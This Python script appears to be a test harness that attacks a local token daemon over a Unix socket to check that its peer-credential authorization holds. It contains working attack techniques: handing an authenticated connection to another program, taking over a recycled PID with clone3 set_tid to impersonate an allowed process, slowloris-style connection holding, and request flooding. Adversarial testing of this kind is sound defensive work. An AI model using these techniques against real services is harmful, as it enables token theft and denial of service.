"""Asks the daemon for a token in ways that a kernel fact must see through.

attack.py MODE SOCKET APP [ARGUMENT...]; prints the status of each answer, a line each.
"""
import ctypes
import os
import socket
import struct
import sys

MODE, SOCKET, APP = sys.argv[1:4]
MORE = sys.argv[4:]


def connect():
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(SOCKET)
    return connection


def request(app):
    return f"GET /v1/apps/{app}/token HTTP/1.1\r\nHost: tokd\r\n\r\n".encode()


def ask(connection, app=APP):
    """One request; the answer's status, read whole so that the next begins where it ended."""
    connection.sendall(request(app))
    received = b""
    while b"\r\n\r\n" not in received:
        part = connection.recv(65536)
        if not part:
            return "closed"
        received += part
    head, _, body = received.partition(b"\r\n\r\n")
    length = int([line for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:")][0].split(b":")[1])
    while len(body) < length:
        body += connection.recv(65536)
    return head.split(b" ")[1].decode()


def read():
    print(ask(connect()))


def becomes():
    """Connects as this program, asks, and goes on as another, which asks on the same connection."""
    connection = connect()
    print(ask(connection), flush=True)
    os.dup2(connection.fileno(), 9)
    shell = f"printf 'GET /v1/apps/{APP}/token HTTP/1.1\\r\\nHost: tokd\\r\\nConnection: close\\r\\n\\r\\n' >&9; cat <&9"
    os.execv(MORE[0], [MORE[0], "-c", shell + " | head -n 1 | cut -d' ' -f2"])


def reused():
    """Connects, leaves the connection to a child and ends; root gives the number to the allowed program."""
    first, second = os.pipe()
    go, going = os.pipe()
    asker = os.fork()
    if asker == 0:
        connector = os.fork()
        if connector == 0:
            connection = connect()
            heir = os.fork()
            if heir != 0:
                os.write(second, struct.pack("i", os.getpid()))
                os._exit(0)
            os.read(go, 1)
            print(ask(connection), flush=True)
            os._exit(0)
        os.waitpid(connector, 0)
        os._exit(0)
    number = struct.unpack("i", os.read(first, 4))[0]
    os.waitpid(asker, 0)
    taken = take_number(number, int(MORE[0]), MORE[1])
    os.write(going, b"x")
    os.close(going)
    os.close(second)
    # The heir holds the pipe's other end until it has asked.
    os.read(first, 1)
    os.kill(taken, 9)
    os.waitpid(taken, 0)


def take_number(number, uid, program):
    """clone3(2) with set_tid: a process of that user, running that program, under a number of our choice."""
    wanted = ctypes.c_int(number)
    arguments = struct.pack("<QQQQQQQQQQQ", 0, 0, 0, 0, 17, 0, 0, 0, ctypes.addressof(wanted), 1, 0)
    libc = ctypes.CDLL(None, use_errno=True)
    child = libc.syscall(435, ctypes.create_string_buffer(arguments), len(arguments))
    if child == 0:
        os.setgroups([])
        os.setgid(uid)
        os.setuid(uid)
        os.execv(program, [program, "60"])
    if child != number:
        sys.exit(f"the number {number} could not be had: errno {ctypes.get_errno()}")
    # Only once it runs that program is it what the rule names.
    while os.readlink(f"/proc/{number}/exe") != program:
        os.sched_yield()
    return child


def hold(first):
    """Opens many connections, sends each the start of a request, and holds them until its input ends."""
    connections = []
    for _ in range(int(MORE[0])):
        connection = socket.socket(socket.AF_UNIX)
        try:
            connection.connect(SOCKET)
            connection.sendall(first)
        except OSError:
            connection.close()
            continue
        connections.append(connection)
    print(len(connections), flush=True)
    sys.stdin.read()


def idle():
    hold(b"")


def loris():
    hold(b"GET /v1/apps/" + APP.encode() + b"/token HTTP/1.1\r\nHost: t")


def storm():
    """One connection after the other, each with one request; says how many were answered with a token."""
    granted = 0
    for _ in range(int(MORE[0])):
        connection = connect()
        granted += ask(connection) == "200"
        connection.close()
    print(granted)


MODES = {"read": read, "becomes": becomes, "reused": reused, "idle": idle, "loris": loris, "storm": storm}
MODES[MODE]()
